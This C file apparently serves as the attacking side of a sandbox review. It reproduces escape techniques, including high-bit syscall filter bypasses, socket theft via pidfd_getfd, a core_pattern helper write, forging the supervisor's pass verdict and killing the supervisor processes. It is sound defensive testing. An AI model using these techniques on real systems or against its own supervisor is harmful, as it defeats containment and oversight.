// ha77-agent.c: hostile review h-attack77, the agent. Issue 11's and 12's
// reproductions written again from the issues' text alone, one subcommand
// per class. Each prints "ha77: CLASS: what happened" lines on stdout and
// exits 0; the driver (ha77-run.py) judges by ground truth, not by these.
//   hibits6 MARK PORT        11.1 setsockopt((1<<32)|IPPROTO_IPV6, IPV6_RTHDR)
//                            type-4 header steering a UDP send to [::1]
//   hibitsock                11.1 socket(AF_PACKET|1<<32 ...) and the
//                            same high bits on the other int arguments
//   sctp MARK PORT           11.2 SCTP socket, connectx, write
//   listen MARK PORT         11.3 listen on 0.0.0.0:PORT, write to the peer
//   cross MARK PID FD        11.4 pidfd_getfd/ptrace/process_vm_writev of
//                            an outsider holding a connected socket at FD
//   sysctl [HELPER]          11.5 open /proc/sys/kernel/{core_pattern,
//                            modprobe} for writing; with HELPER (a guest
//                            only, never the host) write |HELPER and crash
//   inherit MARK FD          11.6 write MARK to an inherited descriptor
//   uring MARK PATH          11.6b an io_uring ring received over AF_UNIX at
//                            PATH (from an outsider): IORING_OP_SEND on it
//   tcpname IP PORT          11.7 sendto with a short name on connected TCP
//   forge IP PORT            12.1 a denied connect, forge the report, kill
//   survive MARK IP PORT     12.2 a daemonized descendant, its supervisor
//                            killed; the survivor keeps sending MARK
//   thread IP PORT           12.3 CLONE_THREAD without CLONE_FILES connects
//   interrupt IP PORT US [N] 12.4 an undeclared connect interrupted after US
//                            (N processes, each its own timer)
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/sched.h>
#include <netinet/in.h>
#include <netinet/ip6.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define HI (1ULL << 32)

static void say(const char *cls, const char *what, long rc)
{
	printf("ha77: %s: %s = %ld (%s)\n", cls, what, rc, rc < 0 ? strerror(errno) : "ok");
	fflush(stdout);
}

static struct sockaddr_in v4(const char *ip, int port)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
	inet_pton(AF_INET, ip, &a.sin_addr);
	return a;
}

static int hibits6(const char *mark, int port)
{
	int fd = socket(AF_INET6, SOCK_DGRAM, 0);
	// A type-4 (segment routing) header: segments[1] = ::1 is where the
	// packet goes first; segments[0] is filled in by the kernel.
	unsigned char buf[8 + 2 * 16] = {0};
	buf[1] = 4;           // hdrlen
	buf[2] = 4;           // type 4
	buf[3] = 1;           // segments_left
	buf[4] = 1;           // first_segment
	buf[8 + 16 + 15] = 1; // segments[1] = ::1
	long rc = syscall(SYS_setsockopt, fd, (long)(HI | IPPROTO_IPV6), (long)IPV6_RTHDR, buf,
			  sizeof buf);
	say("hibits6", "setsockopt(HI|IPPROTO_IPV6, IPV6_RTHDR)", rc);
	struct sockaddr_in6 d = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
	inet_pton(AF_INET6, "2001:db8::1", &d.sin6_addr);
	rc = sendto(fd, mark, strlen(mark), 0, (void *)&d, sizeof d);
	say("hibits6", "sendto [2001:db8::1] (allowed)", rc);
	// The low-bits form, for comparison: must be refused.
	rc = setsockopt(fd, IPPROTO_IPV6, IPV6_RTHDR, buf, sizeof buf);
	say("hibits6", "setsockopt(IPPROTO_IPV6, IPV6_RTHDR)", rc);
	return 0;
}

static int hibitsock(void)
{
	long rc = syscall(SYS_socket, (long)(HI | AF_PACKET), (long)SOCK_RAW, (long)htons(3));
	say("hibitsock", "socket(HI|AF_PACKET, SOCK_RAW)", rc);
	rc = syscall(SYS_socket, (long)AF_PACKET, (long)(HI | SOCK_RAW), (long)htons(3));
	say("hibitsock", "socket(AF_PACKET, HI|SOCK_RAW)", rc);
	rc = syscall(SYS_socket, (long)(HI | AF_INET), (long)SOCK_STREAM, (long)(HI | 132));
	say("hibitsock", "socket(HI|AF_INET, SOCK_STREAM, HI|IPPROTO_SCTP)", rc);
	rc = syscall(SYS_socket, (long)(HI | AF_INET), (long)SOCK_RAW, (long)IPPROTO_RAW);
	say("hibitsock", "socket(HI|AF_INET, SOCK_RAW, IPPROTO_RAW)", rc);
	int u = socket(AF_INET, SOCK_DGRAM, 0);
	unsigned char opt[8] = {0x83, 7, 4, 198, 51, 100, 1, 0}; // LSRR to 198.51.100.1
	rc = syscall(SYS_setsockopt, u, (long)(HI | IPPROTO_IP), (long)(HI | IP_OPTIONS), opt, 8);
	say("hibitsock", "setsockopt(HI|IPPROTO_IP, HI|IP_OPTIONS, LSRR)", rc);
	// 11.6b's calls made here directly (no ring can be handed over on
	// 6.18: SCM_RIGHTS of an io_uring file is EINVAL in the kernel).
	struct io_uring_params p = {0};
	rc = syscall(SYS_io_uring_setup, 4, &p);
	say("hibitsock", "io_uring_setup", rc);
	rc = syscall(SYS_io_uring_enter, 0, 1, 0, 0, NULL, 0);
	say("hibitsock", "io_uring_enter(0)", rc);
	rc = syscall(SYS_io_uring_register, 0, 0, NULL, 0);
	say("hibitsock", "io_uring_register(0)", rc);
	return 0;
}

static int sctp(const char *mark, int port)
{
	int fd = socket(AF_INET, SOCK_STREAM, 132);
	say("sctp", "socket(AF_INET, SOCK_STREAM, IPPROTO_SCTP)", fd);
	if (fd < 0)
		return 0;
	struct sockaddr_in a = v4("127.0.0.2", port);
	long rc = setsockopt(fd, 132, 110 /* SCTP_SOCKOPT_CONNECTX */, &a, sizeof a);
	say("sctp", "SCTP_SOCKOPT_CONNECTX 127.0.0.2", rc);
	usleep(200000);
	rc = write(fd, mark, strlen(mark));
	say("sctp", "write", rc);
	return 0;
}

static int do_listen(const char *mark, int port)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	int one = 1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	struct sockaddr_in a = v4("0.0.0.0", port);
	say("listen", "bind 0.0.0.0", bind(fd, (void *)&a, sizeof a));
	say("listen", "listen", listen(fd, 4));
	struct sockaddr_in p;
	socklen_t pl = sizeof p;
	alarm(8);
	int c = accept(fd, (void *)&p, &pl);
	say("listen", "accept", c);
	if (c < 0)
		return 0;
	say("listen", "write to peer", write(c, mark, strlen(mark)));
	usleep(300000);
	return 0;
}

static int cross(const char *mark, int pid, int tfd)
{
	int pfd = syscall(SYS_pidfd_open, pid, 0);
	say("cross", "pidfd_open(outsider)", pfd);
	if (pfd >= 0) {
		int s = syscall(SYS_pidfd_getfd, pfd, tfd, 0);
		say("cross", "pidfd_getfd", s);
		if (s >= 0)
			say("cross", "write(stolen socket)", write(s, mark, strlen(mark)));
	}
	long rc = ptrace(PTRACE_SEIZE, pid, 0, 0);
	say("cross", "ptrace(PTRACE_SEIZE, outsider)", rc);
	char b[8] = "x";
	struct iovec l = {b, 1}, r = {(void *)0x10000, 1};
	rc = process_vm_writev(pid, &l, 1, &r, 1, 0);
	say("cross", "process_vm_writev(outsider)", rc);
	rc = process_vm_readv(pid, &l, 1, &r, 1, 0);
	say("cross", "process_vm_readv(outsider)", rc);
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	say("cross", "open /proc/PID/mem O_RDWR", open(path, O_RDWR));
	// In a pid namespace the outsider has no number: does any /proc entry
	// lead to a process that is not ours?
	DIR *d = opendir("/proc");
	int n = 0;
	struct dirent *e;
	while (d && (e = readdir(d)))
		if (e->d_name[0] >= '0' && e->d_name[0] <= '9')
			n++;
	if (d)
		closedir(d);
	printf("ha77: cross: /proc shows %d pids\n", n);
	return 0;
}

static int sysctl(const char *helper)
{
	say("sysctl", "open core_pattern O_WRONLY",
	    open("/proc/sys/kernel/core_pattern", O_WRONLY));
	say("sysctl", "open modprobe O_WRONLY", open("/proc/sys/kernel/modprobe", O_WRONLY));
	say("sysctl", "open max_user_namespaces O_WRONLY",
	    open("/proc/sys/user/max_user_namespaces", O_WRONLY));
	// Only in a guest (a helper named): write it and crash, the classic.
	if (helper) {
		int fd = open("/proc/sys/kernel/core_pattern", O_WRONLY);
		// "%s" stands for a space (the scenario splits the agent's
		// words on spaces).
		static char h[512];
		snprintf(h, sizeof h, "%s", helper);
		for (char *q; (q = strstr(h, "%s"));) {
			*q = ' ';
			memmove(q + 1, q + 2, strlen(q + 2) + 1);
		}
		say("sysctl", "write core_pattern", fd < 0 ? -1 : write(fd, h, strlen(h)));
		if (fork() == 0)
			abort();
		wait(NULL);
		sleep(1);
	}
	return 0;
}

static int inherit(const char *mark, int fd)
{
	say("inherit", "write(inherited fd)", write(fd, mark, strlen(mark)));
	struct sockaddr_in a = v4("127.0.0.2", 1);
	say("inherit", "sendto(inherited fd)", sendto(fd, mark, strlen(mark), 0, (void *)&a, 0));
	return 0;
}

// 11.6b: an outsider made an io_uring ring and hands it over (with a socket
// of its own connected to the sink) on an AF_UNIX socket at path.
static int uring(const char *mark, const char *path)
{
	int u = socket(AF_UNIX, SOCK_STREAM, 0);
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	strncpy(a.sun_path, path, sizeof a.sun_path - 1);
	say("uring", "connect(AF_UNIX outsider)", connect(u, (void *)&a, sizeof a));
	char c;
	char cbuf[CMSG_SPACE(2 * sizeof(int))];
	struct iovec iov = {&c, 1};
	struct msghdr m = {
	    .msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
	long rc = recvmsg(u, &m, 0);
	say("uring", "recvmsg(SCM_RIGHTS)", rc);
	struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
	if (rc <= 0 || !cm || cm->cmsg_type != SCM_RIGHTS) {
		printf("ha77: uring: no descriptors came\n");
		return 0;
	}
	int fds[2];
	memcpy(fds, CMSG_DATA(cm), sizeof fds);
	int ring = fds[0], sock = fds[1];
	struct io_uring_params p;
	// The outsider set it up with 4 entries; read its geometry back by
	// mapping the rings with the offsets it passes along as bytes.
	rc = read(u, &p, sizeof p);
	say("uring", "read params", rc);
	size_t sqsz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
	char *sq = mmap(0, sqsz, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	struct io_uring_sqe *sqes = mmap(0, p.sq_entries * sizeof(struct io_uring_sqe),
					 PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	if (sq == MAP_FAILED || sqes == MAP_FAILED) {
		say("uring", "mmap", -1);
		return 0;
	}
	unsigned *tail = (unsigned *)(sq + p.sq_off.tail);
	unsigned *mask = (unsigned *)(sq + p.sq_off.ring_mask);
	unsigned *arr = (unsigned *)(sq + p.sq_off.array);
	unsigned t = *tail, i = t & *mask;
	memset(&sqes[i], 0, sizeof sqes[i]);
	sqes[i].opcode = IORING_OP_SEND;
	sqes[i].fd = sock;
	sqes[i].addr = (uintptr_t)mark;
	sqes[i].len = strlen(mark);
	arr[i] = i;
	__atomic_store_n(tail, t + 1, __ATOMIC_RELEASE);
	rc = syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	say("uring", "io_uring_enter(IORING_OP_SEND)", rc);
	return 0;
}

static int tcpname(const char *ip, int port)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = v4(ip, port);
	say("tcpname", "connect (allowed)", connect(fd, (void *)&a, sizeof a));
	char junk[16] = {0};
	for (int len = 1; len < 16; len += 7)
		say("tcpname", "sendto(name len 1/8/15)",
		    sendto(fd, "hello", 5, 0, (void *)junk, len));
	return 0;
}

static pid_t find_supervisor(void)
{
	pid_t pp = getppid();
	char p[300], b[4096];
	snprintf(p, sizeof p, "/proc/%d/cmdline", pp);
	int fd = open(p, O_RDONLY);
	ssize_t n = fd < 0 ? -1 : read(fd, b, sizeof b - 1);
	printf("ha77: parent %d cmdline readable: %s\n", pp, n > 0 ? "yes" : "no");
	return pp;
}

// The report path from the supervisor's command line, where it can be read.
static int report_target(pid_t pp, char *path, size_t len, int *rfd)
{
	char p[300], b[8192];
	*rfd = -1;
	path[0] = 0;
	pid_t cands[2] = {pp, getppid()};
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d))) {
		if (e->d_name[0] < '1' || e->d_name[0] > '9')
			continue;
		snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
		int fd = open(p, O_RDONLY);
		ssize_t n = fd < 0 ? -1 : read(fd, b, sizeof b - 1);
		if (fd >= 0)
			close(fd);
		if (n <= 0)
			continue;
		b[n] = 0;
		// Only this review's runs (their command lines name the agent,
		// /tmp/ha77.*/agent or /agents/ha77-agent): another session's
		// supervisor of the same uid is never a target (a first version
		// forged a concurrent uid-1000 run's report in subreaper mode).
		if (!memmem(b, n, "ha77", 4))
			continue;
		for (char *s = b; s < b + n; s += strlen(s) + 1) {
			if (!strcmp(s, "--report") && s + strlen(s) + 1 < b + n) {
				snprintf(path, len, "%s", s + strlen(s) + 1);
				printf("ha77: found --report %s in pid %s\n", path, e->d_name);
			}
			if (!strcmp(s, "--report-fd") && s + strlen(s) + 1 < b + n) {
				*rfd = atoi(s + strlen(s) + 1);
				printf("ha77: found --report-fd %d in pid %s\n", *rfd, e->d_name);
				char fp[300];
				snprintf(fp, sizeof fp, "/proc/%s/fd/%d", e->d_name, *rfd);
				int w = open(fp, O_WRONLY);
				say("forge", "open /proc/SV/fd/N for writing", w);
				if (w >= 0) {
					const char *f =
					    "{\"complete\": true, \"verdict\": \"pass\", "
					    "\"ha77\": \"ha77-forged\"}\n";
					say("forge", "write forged record to report fd",
					    write(w, f, strlen(f)));
				}
			}
		}
	}
	if (d)
		closedir(d);
	(void)cands;
	return 0;
}

static void kill_supervisors(void)
{
	char p[300], b[4096];
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d))) {
		if (e->d_name[0] < '1' || e->d_name[0] > '9')
			continue;
		pid_t pid = atoi(e->d_name);
		if (pid == getpid())
			continue;
		snprintf(p, sizeof p, "/proc/%s/cmdline", e->d_name);
		int fd = open(p, O_RDONLY);
		ssize_t n = fd < 0 ? -1 : read(fd, b, sizeof b - 1);
		if (fd >= 0)
			close(fd);
		// This review's supervisors only (see report_target).
		if (n <= 0 || !memmem(b, n, "ha77", 4) ||
		    (!memmem(b, n, "egress-supervisor", 17) && !memmem(b, n, "/sv", 3)))
			continue;
		long rc = kill(pid, SIGKILL);
		printf("ha77: kill(%d, SIGKILL) = %ld%s\n", pid, rc, rc ? strerror(errno) : "");
	}
	if (d)
		closedir(d);
	long rc = kill(getppid(), SIGKILL);
	printf("ha77: kill(ppid %d) = %ld\n", getppid(), rc);
	fflush(stdout);
}

static int forge(const char *ip, int port)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = v4(ip, port);
	say("forge", "connect (undeclared)", connect(fd, (void *)&a, sizeof a));
	char path[4096];
	int rfd;
	report_target(find_supervisor(), path, sizeof path, &rfd);
	const char *f = "{\"complete\": true, \"verdict\": \"pass\", \"exit\": 0, \"ha77\": "
			"\"ha77-forged\"}\n";
	if (path[0]) {
		char tmp[4200];
		snprintf(tmp, sizeof tmp, "%s.ha77", path);
		int w = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
		say("forge", "create forged file beside the report", w);
		if (w >= 0 && write(w, f, strlen(f)) > 0)
			say("forge", "rename over the report", rename(tmp, path));
	}
	kill_supervisors();
	sleep(1);
	return 0;
}

static int survive(const char *mark, const char *ip, int port)
{
	pid_t c = fork();
	if (c == 0) {
		setsid();
		if (fork() != 0)
			_exit(0);
		prctl(PR_SET_PDEATHSIG, 0);
		signal(SIGHUP, SIG_IGN);
		signal(SIGTERM, SIG_IGN);
		// Try a lower pid by clone3 set_tid (needs CAP_CHECKPOINT_RESTORE).
		pid_t want = 300;
		struct clone_args ca = {
		    .exit_signal = SIGCHLD, .set_tid = (uintptr_t)&want, .set_tid_size = 1};
		long r = syscall(SYS_clone3, &ca, sizeof ca);
		if (r == 0) {
			prctl(PR_SET_PDEATHSIG, 0);
		} else {
			say("survive", "clone3(set_tid=300)", r);
		}
		if (r > 0)
			_exit(0);
		for (int i = 0; i < 40; i++) {
			usleep(100000);
			int u = socket(AF_INET, SOCK_DGRAM, 0);
			struct sockaddr_in a = v4(ip, port);
			char m[256];
			snprintf(m, sizeof m, "%s-survivor-%d", mark, i);
			sendto(u, m, strlen(m), 0, (void *)&a, sizeof a);
			close(u);
		}
		_exit(0);
	}
	waitpid(c, NULL, 0);
	usleep(200000);
	kill_supervisors();
	sleep(1);
	return 0;
}

static volatile int t_done;
static long t_rc, t_peer;
static int thread_fn(void *arg)
{
	struct sockaddr_in *a = arg;
	// Our table is a copy: fd 3 still names the leader's socket. Put a
	// socket of our own at 3, and connect that one.
	syscall(SYS_close, 3);
	long s = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
	t_rc = syscall(SYS_connect, 3, a, sizeof *a);
	struct sockaddr_in p;
	socklen_t pl = sizeof p;
	t_peer = syscall(SYS_getpeername, 3, &p, &pl);
	(void)s;
	__atomic_store_n(&t_done, 1, __ATOMIC_RELEASE);
	syscall(SYS_exit, 0);
	return 0;
}

static int thread(const char *ip, int port)
{
	close(3);
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd != 3) {
		printf("ha77: thread: leader socket at %d, not 3\n", fd);
		return 0;
	}
	static struct sockaddr_in a;
	a = v4(ip, port);
	size_t sz = 1 << 16;
	char *stk = mmap(0, sz, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int r = clone(thread_fn, stk + sz, CLONE_VM | CLONE_THREAD | CLONE_SIGHAND, &a);
	say("thread", "clone(CLONE_THREAD, no CLONE_FILES)", r);
	for (int i = 0; i < 500 && !__atomic_load_n(&t_done, __ATOMIC_ACQUIRE); i++)
		usleep(10000);
	printf("ha77: thread: thread connect rc=%ld, thread getpeername rc=%ld\n", t_rc, t_peer);
	struct sockaddr_in p;
	socklen_t pl = sizeof p;
	long lp = getpeername(3, (void *)&p, &pl);
	printf("ha77: thread: leader fd 3 getpeername rc=%ld (%s)\n", lp,
	       lp ? strerror(errno) : "connected: WRONG TABLE");
	printf("ha77: thread: GROUND thread_connected=%d leader_connected=%d\n", t_peer == 0,
	       lp == 0);
	fflush(stdout);
	return 0;
}

static void on_alrm(int s)
{
	(void)s;
}

static int interrupt(const char *ip, int port, int us, int count)
{
	struct sigaction sa = {.sa_handler = on_alrm};
	sigaction(SIGALRM, &sa, NULL); // no SA_RESTART
	for (int i = 1; i < count; i++)
		if (fork() == 0) {
			count = 1;
			us = us * (i % 7 + 1);
			break;
		}
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	struct sockaddr_in a = v4(ip, port);
	struct itimerval it = {.it_value = {0, us > 0 ? us : 1}};
	setitimer(ITIMER_REAL, &it, NULL);
	long rc = connect(fd, (void *)&a, sizeof a);
	int e = errno;
	say("interrupt", "connect (undeclared, interrupted)", rc);
	if (rc == 0)
		say("interrupt", "write after connect", write(fd, "HA77INT", 7));
	errno = e;
	while (wait(NULL) > 0)
		;
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 2)
		return 2;
	const char *c = argv[1];
	if (!strcmp(c, "hibits6") && argc > 3)
		return hibits6(argv[2], atoi(argv[3]));
	if (!strcmp(c, "hibitsock"))
		return hibitsock();
	if (!strcmp(c, "sctp") && argc > 3)
		return sctp(argv[2], atoi(argv[3]));
	if (!strcmp(c, "listen") && argc > 3)
		return do_listen(argv[2], atoi(argv[3]));
	if (!strcmp(c, "cross") && argc > 4)
		return cross(argv[2], atoi(argv[3]), atoi(argv[4]));
	if (!strcmp(c, "sysctl"))
		return sysctl(argc > 2 ? argv[2] : NULL);
	if (!strcmp(c, "inherit") && argc > 3)
		return inherit(argv[2], atoi(argv[3]));
	if (!strcmp(c, "uring") && argc > 3)
		return uring(argv[2], argv[3]);
	if (!strcmp(c, "tcpname") && argc > 3)
		return tcpname(argv[2], atoi(argv[3]));
	if (!strcmp(c, "forge") && argc > 3)
		return forge(argv[2], atoi(argv[3]));
	if (!strcmp(c, "survive") && argc > 4)
		return survive(argv[2], argv[3], atoi(argv[4]));
	if (!strcmp(c, "thread") && argc > 3)
		return thread(argv[2], atoi(argv[3]));
	if (!strcmp(c, "interrupt") && argc > 4)
		return interrupt(argv[2], atoi(argv[3]), atoi(argv[4]),
				 argc > 5 ? atoi(argv[5]) : 1);
	fprintf(stderr, "ha77-agent: unknown or short: %s\n", c);
	return 2;
}
